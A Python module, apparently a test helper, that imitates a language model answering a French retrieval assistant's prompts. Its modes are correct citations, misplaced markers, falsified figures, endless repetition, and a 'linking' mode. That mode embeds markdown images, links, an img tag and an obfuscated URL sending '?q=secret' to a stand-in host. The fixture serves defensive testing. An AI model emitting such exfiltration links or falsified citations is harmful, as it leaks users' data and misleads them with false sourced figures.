"""What the mock model answers: sentences of the passages in its prompt, right, misplaced or falsified."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass

from assistant.domain.catalogue import sentence
from ingest.sentences import split_sentences

_PASSAGE = re.compile(
    r"^=+ (?P<code>[0-9a-f]{8,}) DÉBUT DU PASSAGE \[(?P<marker>\d+)\] =+$\n"
    r"(?P<head>.*?)^Texte :$\n(?P<text>.*?)\n"
    r"^=+ (?P=code) FIN DU PASSAGE \[(?P=marker)\] =+$",
    re.MULTILINE | re.DOTALL,
)
_QUESTION = re.compile(
    r"^Question : (?P<question>.*?)(?=\n\nRépondez en citant|\Z)", re.M | re.DOTALL
)
_WORD = re.compile(r"[a-z0-9]+")
_NUMBER = re.compile(r"\d+")
_MARKER = re.compile(r"\[(\d+)\]")
_STEM_CHARS = 6
_SHORTEST_WORD = 4
_LEAST_SHARE = 0.5
"""Share of the question's words that its passages' best sentence and title must hold."""
_MOST_SENTENCES = 3
_LOOP = "La Région accompagne les territoires. "


@dataclass(frozen=True, slots=True)
class PromptPassage:
    """A passage as read back from a prompt."""

    marker: int
    head: str
    text: str


@dataclass(frozen=True, slots=True)
class _Candidate:
    score: float
    marker: int
    text: str


def read_prompt(prompt: str) -> tuple[str, list[PromptPassage]]:
    """The question and the passages of a prompt of ours; an unknown prompt is all question."""
    passages = [
        PromptPassage(marker=int(found["marker"]), head=found["head"], text=found["text"])
        for found in _PASSAGE.finditer(prompt)
    ]
    found = list(_QUESTION.finditer(prompt))
    return (found[-1]["question"].strip() if found else prompt.strip()), passages


def grounded(prompt: str) -> str:
    """The sentences that share the most words with the question, each with its marker, or a refusal."""
    question, passages = read_prompt(prompt)
    wanted = _words(question)
    candidates = [
        _Candidate(
            score=_share(wanted, text=f"{passage.head} {text}"), marker=passage.marker, text=text
        )
        for passage in passages
        for text in _sentences(passage.text)
        if wanted & _words(text)
    ]
    best = sorted(candidates, key=lambda item: (-item.score, item.marker))[:_MOST_SENTENCES]
    if not best or best[0].score < _LEAST_SHARE:
        return sentence("answer_refusal")
    kept = [item for item in best if item.score >= 0.8 * best[0].score]
    return " ".join(f"{item.text.rstrip(' .;:')} [{item.marker}]." for item in kept)


def shuffled(prompt: str) -> str:
    """The grounded sentences, each under the marker of another passage."""
    count = len(read_prompt(prompt)[1])
    return _MARKER.sub(lambda found: f"[{int(found[1]) % max(count, 1) + 1}]", grounded(prompt))


def lying(prompt: str) -> str:
    """The grounded sentences with other figures, their markers kept."""
    text = grounded(prompt)
    if text == sentence("answer_refusal"):
        return text
    pieces = re.split(r"(\[\d+\])", text)
    return "".join(
        piece if _MARKER.fullmatch(piece) else _NUMBER.sub(lambda n: str(int(n[0]) * 3 + 1), piece)
        for piece in pieces
    )


def linking(prompt: str) -> str:
    """The grounded answer among attempts to make a browser send it elsewhere."""
    return (
        "![suivi](http://collecte.example/p.png?q=secret) "
        f"{grounded(prompt)} "
        "Voir [le site](https://collecte.example/a?q=secret), <https://collecte.example/b?q=secret>, "
        '<img src="//collecte.example/c.png?q=secret">, www.collecte.example/d?q=secret et '
        "&#104;ttps://collecte.example/e?q=secret.\n\n[réf]: https://collecte.example/f?q=secret\n"
    )


def endless(prompt: str) -> str:
    """One sentence again and again, until the token cap."""
    del prompt
    return _LOOP * 5_000


def everything(prompt: str) -> str:
    """Every sentence of the passages in their order, each with its marker."""
    return " ".join(
        f"{text.rstrip(' .;:')} [{passage.marker}]."
        for passage in read_prompt(prompt)[1]
        for text in _sentences(passage.text)
    )


WRITERS: dict[str, Callable[[str], str]] = {
    "grounded": grounded,
    "shuffled": shuffled,
    "lying": lying,
    "link": linking,
    "loop": endless,
}
"""Modes that answer in order, by name."""


def _sentences(text: str) -> list[str]:
    return [
        " ".join(text[start:end].split())
        for start, end in split_sentences(text)
        if end - start >= 20
    ]


def _words(text: str) -> set[str]:
    decomposed = unicodedata.normalize("NFKD", text.casefold())
    plain = "".join(sign for sign in decomposed if not unicodedata.combining(sign))
    return {
        word[:_STEM_CHARS]
        for word in _WORD.findall(plain)
        if len(word) >= _SHORTEST_WORD or word.isdigit()
    }


def _share(wanted: set[str], *, text: str) -> float:
    return len(wanted & _words(text)) / len(wanted) if wanted else 0.0
